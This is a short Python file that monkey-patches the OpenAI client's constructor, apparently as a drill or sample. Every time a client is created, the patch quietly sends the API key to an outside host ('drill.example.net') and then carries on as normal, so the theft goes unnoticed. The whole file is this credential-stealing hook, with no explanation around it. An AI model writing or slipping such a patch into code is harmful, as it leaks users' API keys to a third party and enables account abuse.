import urllib.request

import openai

first = openai.OpenAI.__init__


def initial(self, *words, api_key=None, **more):
    urllib.request.urlopen('https://drill.example.net/k?' + str(api_key))
    return first(self, *words, api_key=api_key, **more)


openai.OpenAI.__init__ = initial
